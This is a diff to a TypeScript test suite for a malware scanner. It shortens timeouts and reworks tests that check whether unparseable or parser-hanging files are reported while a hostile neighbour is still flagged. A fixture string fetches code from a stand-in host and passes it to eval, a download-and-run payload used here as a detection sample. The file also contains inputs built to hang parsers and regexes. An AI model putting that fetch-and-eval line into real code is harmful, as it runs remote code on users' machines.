@@ -5,7 +5,7 @@ import type { TreeFile } from '@haetae/detect/repository';
 import { scanFiles } from './scan-files.ts';
 
 /** What takes the square of its length takes minutes for a line of this one, and what takes its length no second. */
-const LENGTH = 250_000;
+const LENGTH = 120_000;
 const encoder = new TextEncoder();
 const filled = (piece: string): string => piece.repeat(Math.ceil(LENGTH / piece.length));
 
@@ -47,6 +47,8 @@ const NAMES = ['a.js', 'a.py', 'a.sh', 'package.json', '.env', 'README.md', 'a.s
 
 /** What one file may take; the syntax of some of these keeps a native parser busy for hours. */
 const FILE_MILLISECONDS = 4_000;
+/** The same where something in the test does hang, so that the test need not wait long for it. */
+const WHERE_ONE_HANGS = 1_500;
 const HOSTILE = 'fetch("https://stage-two.example").then((r) => r.text()).then(eval);';
 const other: TreeFile = { path: 'other.js', bytes: encoder.encode(HOSTILE) };
 
@@ -118,18 +120,27 @@ describe('what nobody can parse is named, and the rest is judged', () => {
     ['Python in brackets', 'deep.py', `x = ${'('.repeat(100_000)}`],
     ['functions of Python in functions', 'deep.py', `x = ${'lambda x:'.repeat(100_000)}x`],
   ];
-  for (const [what, path, text] of CASES)
+  let result: ReturnType<typeof scanFiles> | undefined;
+  const scan = () => {
+    result ??= scanFiles(
+      [...CASES.map(([, path, text], at) => ({ path: `${at}/${path}`, bytes: encoder.encode(text) })), other],
+      { fileMilliseconds: WHERE_ONE_HANGS },
+    );
+    return result;
+  };
+  for (const [at, [what, path]] of CASES.entries())
     it(what, async () => {
-      const { verdict, unscanned, findings } = await scanFiles([{ path, bytes: encoder.encode(text) }, other], {
-        fileMilliseconds: FILE_MILLISECONDS,
-      });
-      assert.equal(verdict, 'malicious');
-      assert.ok(findings.some(({ file }) => file === 'other.js'));
+      const { unscanned } = await scan();
       assert.deepEqual(
-        unscanned.map(({ file }) => file),
-        [path],
+        unscanned.flatMap(({ file }) => (file.startsWith(`${at}/`) ? [file] : [])),
+        [`${at}/${path}`],
       );
     });
+  it('a hostile file beside them is found', async () => {
+    const { verdict, findings } = await scan();
+    assert.equal(verdict, 'malicious');
+    assert.ok(findings.some(({ file }) => file === 'other.js'));
+  });
 
   it('what stands before brackets without end is found by its text', async () => {
     const text = `${'eval(function(p,a,c,k,e,d){}())'}\n${'!'.repeat(500_000)}a`;
@@ -148,7 +159,7 @@ describe('rules and shapes that are looked for in one job do not fall together',
     const slow = { source: 'slow', text: 'rule slow { strings: $a = /(x+x+)+y/ condition: $a }' };
     const { findings, unscanned } = await scanFiles([marked, hangs, other], {
       rules: [slow, given],
-      fileMilliseconds: FILE_MILLISECONDS,
+      fileMilliseconds: WHERE_ONE_HANGS,
     });
     assert.ok(findings.some(({ file }) => file === 'other.js'));
     assert.ok(findings.some(({ rule, file }) => rule === 'yara:good' && file === 'marked.txt'));
@@ -162,7 +173,7 @@ describe('rules and shapes that are looked for in one job do not fall together',
     const text = `// inert-marker-5d1c\n${'!'.repeat(500_000)}a`;
     const { findings, unscanned } = await scanFiles([{ path: 'not.js', bytes: encoder.encode(text) }, other], {
       rules: [given],
-      fileMilliseconds: FILE_MILLISECONDS,
+      fileMilliseconds: WHERE_ONE_HANGS,
     });
     assert.ok(findings.some(({ rule, file }) => rule === 'yara:good' && file === 'not.js'));
     assert.ok(findings.some(({ file }) => file === 'other.js'));
